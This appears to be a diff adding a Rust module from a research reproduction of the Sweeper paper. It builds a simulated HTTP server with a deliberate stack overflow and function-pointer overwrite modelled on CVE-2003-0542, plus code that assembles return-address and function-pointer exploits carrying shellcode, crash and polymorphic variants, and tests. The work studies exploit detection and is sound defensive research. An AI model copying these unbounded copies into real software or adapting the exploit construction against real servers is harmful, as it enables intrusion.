@@ -1,0 +1,498 @@
+//! mini-httpd v1 — the Apache 1.3.27 / CVE-2003-0542 analogue.
+//!
+//! A tiny HTTP server whose alias-matching routine `try_alias_list`
+//! copies the request URI into a fixed 64-byte stack buffer with no
+//! bounds check (the paper's `lmatcher` overflow). A long URI overwrites
+//! the saved frame pointer and return address; the compromise exploit
+//! redirects the `ret` into shellcode carried in the request buffer
+//! (pre-NX data segment), while under address-space randomization the
+//! hard-coded address misses and the `ret` faults — Sweeper's detection
+//! signal ("crash at `try_alias_list`; stack inconsistent").
+
+use svm::loader::Layout;
+use svm::stdlib::LIB_ASM;
+use svm::SvmError;
+
+use crate::common::{shellcode, App, BugType, Exploit, RT_ASM};
+
+/// Size of the vulnerable stack buffer.
+pub const STACK_BUF: usize = 64;
+
+fn source() -> String {
+    format!(
+        r#"
+; mini-httpd v1 (Apache1 analogue) — stack smashing in try_alias_list.
+.text
+main:
+    sys accept
+    mov r10, r0            ; connection id (kept live; shellcode uses it)
+    mov r0, r10
+    movi r1, reqbuf
+    movi r2, 1024
+    sys read
+    cmpi r0, 0
+    jz conn_done
+    movi r1, reqbuf
+    add r1, r1, r0
+    movi r2, 0
+    stb [r1, 0], r2        ; NUL-terminate the request
+    call handle_request
+conn_done:
+    mov r0, r10
+    sys close
+    jmp main
+
+handle_request:
+    push fp
+    mov fp, sp
+    movi r0, reqbuf
+    movi r1, method_get
+    movi r2, 4
+    call strncmp
+    cmpi r0, 0
+    jnz hr_bad
+    movi r0, reqbuf+4      ; URI starts after "GET "
+    movi r1, rw_prefix
+    movi r2, 4
+    call strncmp
+    cmpi r0, 0
+    jz hr_rewrite
+    movi r0, reqbuf+4
+    call try_alias_list
+    jmp hr_respond
+hr_rewrite:
+    movi r0, reqbuf+4
+    call try_rewrite
+hr_respond:
+    mov r0, r10
+    movi r1, resp_ok
+    call write_cstr
+    jmp hr_out
+hr_bad:
+    mov r0, r10
+    movi r1, resp_bad
+    call write_cstr
+hr_out:
+    mov sp, fp
+    pop fp
+    ret
+
+; The vulnerable routine: copies the URI into a 64-byte stack buffer
+; until a space/NUL, with NO bounds check.
+try_alias_list:
+    push fp
+    mov fp, sp
+    subi sp, sp, {STACK_BUF}
+    mov r1, r0             ; src = URI
+    mov r2, sp             ; dst = local buffer
+tal_copy:
+    ldb r3, [r1, 0]
+    cmpi r3, ' '
+    jz tal_term
+    cmpi r3, 0
+    jz tal_term
+    stb [r2, 0], r3        ; <-- the overflowing store (the "lmatcher")
+    addi r1, r1, 1
+    addi r2, r2, 1
+    jmp tal_copy
+tal_term:
+    movi r3, 0
+    stb [r2, 0], r3
+    mov r0, sp
+    movi r1, alias_icons
+    movi r2, 7
+    call strncmp
+    mov sp, fp
+    pop fp
+    ret                    ; <-- consumes the (possibly smashed) address
+
+; The paper's hypothetical second exploitation route (SS5.2): the same
+; unbounded copy, but the frame also holds a *function pointer* above the
+; buffer. Overflowing 64 bytes redirects the matcher call WITHOUT ever
+; touching the return address — a variant the initial ret-addr VSEF
+; cannot see; taint analysis (tainted callr target) catches it.
+try_rewrite:
+    push fp
+    mov fp, sp
+    subi sp, sp, 72
+    movi r3, default_matcher
+    st [fp, -8], r3        ; matcher fn pointer, a stack local
+    mov r1, r0
+    mov r2, sp             ; 64-byte rule buffer at fp-72..fp-8
+trw_copy:
+    ldb r3, [r1, 0]
+    cmpi r3, ' '
+    jz trw_term
+    cmpi r3, 0
+    jz trw_term
+    stb [r2, 0], r3        ; <-- same unbounded copy pattern
+    addi r1, r1, 1
+    addi r2, r2, 1
+    jmp trw_copy
+trw_term:
+    movi r3, 0
+    stb [r2, 0], r3
+    mov r0, sp
+    ld r3, [fp, -8]
+    callr r3               ; <-- hijacked when the copy ran 64+ bytes
+    mov sp, fp
+    pop fp
+    ret
+
+default_matcher:
+    movi r1, alias_icons
+    movi r2, 7
+    call strncmp
+    cmpi r0, 0
+    jz dm_yes
+    movi r0, 0
+    ret
+dm_yes:
+    movi r0, 1
+    ret
+
+.data
+method_get: .string "GET "
+rw_prefix: .string "/rw/"
+alias_icons: .string "/icons/"
+resp_ok: .string "HTTP/1.0 200 OK\r\n\r\n<html>ok</html>\n"
+resp_bad: .string "HTTP/1.0 400 Bad Request\r\n\r\n"
+reqbuf: .space 1032
+{LIB_ASM}
+{RT_ASM}
+"#
+    )
+}
+
+/// Build the Apache1 app.
+pub fn app() -> Result<App, SvmError> {
+    App::build(
+        "Apache1",
+        "Apache-1.3.27 web server",
+        "CVE-2003-0542",
+        BugType::StackSmash,
+        "Local exploitable vulnerability enables unauthorized access",
+        source(),
+    )
+}
+
+/// A benign request with a short URI.
+pub fn benign_request(path: &str) -> Vec<u8> {
+    format!("GET /{} HTTP/1.0\n", path.trim_start_matches('/')).into_bytes()
+}
+
+/// Bytes of the smash region: 64 filler + saved-fp + return address.
+fn overflow(ret: u32) -> Vec<u8> {
+    let mut v = vec![b'A'; STACK_BUF];
+    v.extend_from_slice(&0x4141_4141u32.to_le_bytes()); // Fake saved fp.
+    v.extend_from_slice(&ret.to_le_bytes());
+    v
+}
+
+fn forbidden(b: u8) -> bool {
+    // The copy loop stops at space or NUL; those bytes must not appear in
+    // the overflow region.
+    b == b' ' || b == 0
+}
+
+/// The compromise exploit, crafted against `assumed`: smashes the return
+/// address to jump into shellcode placed in `reqbuf`, which writes the
+/// compromise marker to the attacker's connection.
+///
+/// Succeeds iff the victim's actual data-segment base matches the
+/// attacker's assumption; under randomization it faults at the `ret` in
+/// `try_alias_list` instead.
+pub fn exploit_compromise(a: &App, assumed: &Layout) -> Exploit {
+    let reqbuf_off = a.program.symbols["reqbuf"].off;
+    let reqbuf_addr = assumed.data_base + reqbuf_off;
+    let prefix = b"GET ";
+    // Pick a shellcode offset whose absolute address has no forbidden
+    // bytes (the ret bytes travel through the overflow copy).
+    let min_off = prefix.len() + (STACK_BUF + 8) + 1;
+    let mut sc_off = min_off;
+    loop {
+        let addr = reqbuf_addr + sc_off as u32;
+        if addr.to_le_bytes().iter().all(|b| !forbidden(*b)) {
+            break;
+        }
+        sc_off += 1;
+    }
+    let sc_addr = reqbuf_addr + sc_off as u32;
+    let mut input = Vec::new();
+    input.extend_from_slice(prefix);
+    input.extend_from_slice(&overflow(sc_addr));
+    input.push(b' '); // Terminates the copy; everything after survives in reqbuf.
+    while input.len() < sc_off {
+        input.push(b'N');
+    }
+    input.extend_from_slice(&shellcode(sc_addr));
+    Exploit {
+        app: "Apache1",
+        input,
+        variant: "compromise (layout-dependent)",
+    }
+}
+
+/// The function-pointer-overwrite exploit variant (paper §5.2's
+/// hypothetical second exploitation route): a `/rw/` URI whose copy
+/// overruns the 64-byte rule buffer by exactly one word, redirecting the
+/// matcher function pointer *without touching any return address*. The
+/// initial (ret-addr-guard) VSEF cannot see this; taint analysis catches
+/// the tainted `callr` target.
+pub fn exploit_fnptr(a: &App, assumed: &Layout) -> Exploit {
+    let reqbuf_off = a.program.symbols["reqbuf"].off;
+    let reqbuf_addr = assumed.data_base + reqbuf_off;
+    let prefix = b"GET ";
+    // URI = "/rw/" + filler to fill the 64-byte buffer + fn-ptr word.
+    let uri_fill = STACK_BUF - 4; // "/rw/" occupies the first 4 bytes.
+    let min_off = prefix.len() + 4 + uri_fill + 4 + 1;
+    let mut sc_off = min_off;
+    loop {
+        let addr = reqbuf_addr + sc_off as u32;
+        if addr.to_le_bytes().iter().all(|b| !forbidden(*b)) {
+            break;
+        }
+        sc_off += 1;
+    }
+    let sc_addr = reqbuf_addr + sc_off as u32;
+    let mut input = Vec::new();
+    input.extend_from_slice(prefix);
+    input.extend_from_slice(b"/rw/");
+    input.extend_from_slice(&[b'F'].repeat(uri_fill));
+    input.extend_from_slice(&sc_addr.to_le_bytes());
+    input.push(b' ');
+    while input.len() < sc_off {
+        input.push(b'N');
+    }
+    input.extend_from_slice(&shellcode(sc_addr));
+    Exploit {
+        app: "Apache1",
+        input,
+        variant: "fn-pointer hijack (layout-dependent)",
+    }
+}
+
+/// Deterministic-crash form of the fn-pointer variant (target unmapped
+/// under every layout).
+pub fn exploit_fnptr_crash(_a: &App) -> Exploit {
+    let mut input = Vec::new();
+    input.extend_from_slice(b"GET /rw/");
+    input.extend_from_slice(&[b'F'].repeat(STACK_BUF - 4));
+    input.extend_from_slice(&0x6969_6969u32.to_le_bytes());
+    input.extend_from_slice(b" HTTP/1.0\n");
+    Exploit {
+        app: "Apache1",
+        input,
+        variant: "fn-pointer hijack (crash)",
+    }
+}
+
+/// The deterministic-crash exploit: return address `0x66666666` is
+/// unmapped under every layout, so the smashed `ret` always faults.
+pub fn exploit_crash(_a: &App) -> Exploit {
+    let mut input = Vec::new();
+    input.extend_from_slice(b"GET ");
+    input.extend_from_slice(&overflow(0x6666_6666));
+    input.extend_from_slice(b" /trigger/crash.html HTTP/1.0\n");
+    Exploit {
+        app: "Apache1",
+        input,
+        variant: "crash (layout-independent)",
+    }
+}
+
+/// A polymorphic variant of the crash exploit: same vulnerability, byte-
+/// level different filler (defeats exact-match input signatures; VSEFs
+/// still catch it).
+pub fn exploit_crash_poly(_a: &App, salt: u8) -> Exploit {
+    let mut v: Vec<u8> = (0..STACK_BUF as u8)
+        .map(|i| b'a' + ((i ^ salt) % 24))
+        .collect();
+    v.extend_from_slice(&0x4242_4242u32.to_le_bytes());
+    v.extend_from_slice(&0x6666_7778u32.to_le_bytes());
+    let mut input = Vec::new();
+    input.extend_from_slice(b"GET ");
+    input.extend_from_slice(&v);
+    input.extend_from_slice(b" HTTP/1.0\n");
+    Exploit {
+        app: "Apache1",
+        input,
+        variant: "crash (polymorphic)",
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::common::is_compromised;
+    use svm::loader::Aslr;
+    use svm::{Fault, Machine, NopHook, Status};
+
+    fn drive(m: &mut Machine) -> Status {
+        m.run(&mut NopHook, 200_000_000)
+    }
+
+    #[test]
+    fn serves_benign_requests() {
+        let a = app().expect("app");
+        let mut m = a.boot(Aslr::off()).expect("boot");
+        m.net.push_connection(benign_request("index.html"));
+        m.net.push_connection(b"POST / HTTP/1.0\n".to_vec());
+        drive(&mut m);
+        let ok = m.net.conn(0).expect("c0");
+        assert!(ok.output.starts_with(b"HTTP/1.0 200"));
+        assert!(ok.closed);
+        assert!(m
+            .net
+            .conn(1)
+            .expect("c1")
+            .output
+            .starts_with(b"HTTP/1.0 400"));
+        assert!(
+            matches!(m.status(), Status::Blocked(_)),
+            "server still alive"
+        );
+    }
+
+    #[test]
+    fn compromise_succeeds_when_layout_guessed() {
+        let a = app().expect("app");
+        let layout = Layout::nominal();
+        let mut m = a.boot_at(layout).expect("boot");
+        let ex = exploit_compromise(&a, &layout);
+        m.net.push_connection(ex.input);
+        drive(&mut m);
+        assert!(is_compromised(&m), "shellcode ran and wrote the marker");
+    }
+
+    #[test]
+    fn compromise_faults_under_aslr() {
+        let a = app().expect("app");
+        // The attacker assumes the nominal layout; the victim randomizes.
+        let ex = exploit_compromise(&a, &Layout::nominal());
+        let mut m = a.boot(Aslr::on(0xfeed)).expect("boot");
+        m.net.push_connection(ex.input);
+        let s = drive(&mut m);
+        assert!(
+            matches!(s, Status::Faulted(_)),
+            "ASLR turned compromise into a crash: {s:?}"
+        );
+        assert!(!is_compromised(&m));
+    }
+
+    #[test]
+    fn crash_exploit_faults_at_the_ret_in_try_alias_list() {
+        let a = app().expect("app");
+        let mut m = a.boot(Aslr::on(7)).expect("boot");
+        m.net.push_connection(exploit_crash(&a).input);
+        let s = drive(&mut m);
+        let Status::Faulted(f) = s else {
+            panic!("expected fault, got {s:?}")
+        };
+        // The smashed `ret` jumped to the attacker's bogus address: the
+        // fault is an instruction *fetch* at an unresolvable pc. (Like a
+        // real post-ret crash, EIP is garbage; the core-dump analyzer's
+        // stack scan attributes it to `try_alias_list`.)
+        assert!(
+            matches!(
+                f,
+                Fault::Unmapped {
+                    addr: 0x6666_6666,
+                    access: svm::Access::Exec,
+                    ..
+                }
+            ),
+            "{f:?}"
+        );
+        assert!(
+            m.symbols.resolve(f.pc()).is_none(),
+            "wild pc resolves to nothing"
+        );
+    }
+
+    #[test]
+    fn poly_variants_differ_but_both_crash() {
+        let a = app().expect("app");
+        let e1 = exploit_crash_poly(&a, 1);
+        let e2 = exploit_crash_poly(&a, 9);
+        assert_ne!(e1.input, e2.input);
+        for e in [e1, e2] {
+            let mut m = a.boot(Aslr::on(3)).expect("boot");
+            m.net.push_connection(e.input);
+            assert!(matches!(drive(&mut m), Status::Faulted(_)));
+        }
+    }
+
+    #[test]
+    fn rewrite_path_serves_benign_rules() {
+        let a = app().expect("app");
+        let mut m = a.boot(Aslr::off()).expect("boot");
+        m.net
+            .push_connection(b"GET /rw/icons/logo.png HTTP/1.0\n".to_vec());
+        m.net.push_connection(b"GET /rw/short HTTP/1.0\n".to_vec());
+        drive(&mut m);
+        for i in 0..2 {
+            assert!(
+                m.net
+                    .conn(i)
+                    .expect("c")
+                    .output
+                    .starts_with(b"HTTP/1.0 200"),
+                "rewrite request {i} served"
+            );
+        }
+        assert!(matches!(m.status(), Status::Blocked(_)));
+    }
+
+    #[test]
+    fn fnptr_variant_compromises_without_touching_return_addresses() {
+        let a = app().expect("app");
+        let layout = Layout::nominal();
+        let mut m = a.boot_at(layout).expect("boot");
+        m.net.push_connection(exploit_fnptr(&a, &layout).input);
+        drive(&mut m);
+        assert!(is_compromised(&m), "fn-pointer hijack ran shellcode");
+    }
+
+    #[test]
+    fn fnptr_crash_faults_at_the_callr_with_consistent_stack() {
+        let a = app().expect("app");
+        let mut m = a.boot(Aslr::on(21)).expect("boot");
+        m.net.push_connection(exploit_fnptr_crash(&a).input);
+        let s = drive(&mut m);
+        let Status::Faulted(f) = s else {
+            panic!("{s:?}")
+        };
+        assert!(
+            matches!(
+                f,
+                Fault::Unmapped {
+                    addr: 0x6969_6969,
+                    access: svm::Access::Exec,
+                    ..
+                }
+            ),
+            "{f:?}"
+        );
+        // Unlike the ret smash, the frame-pointer chain is intact: the
+        // crash looks "stack consistent" to static analysis — exactly why
+        // the initial ret-addr VSEF is insufficient for this variant.
+    }
+
+    #[test]
+    fn server_survives_uri_at_exact_buffer_size() {
+        // 63 chars + NUL fits the 64-byte buffer: no smash.
+        let a = app().expect("app");
+        let mut m = a.boot(Aslr::off()).expect("boot");
+        let uri: String = "/".repeat(63);
+        m.net
+            .push_connection(format!("GET {uri} HTTP/1.0\n").into_bytes());
+        drive(&mut m);
+        assert!(m
+            .net
+            .conn(0)
+            .expect("c")
+            .output
+            .starts_with(b"HTTP/1.0 200"));
+    }
+}
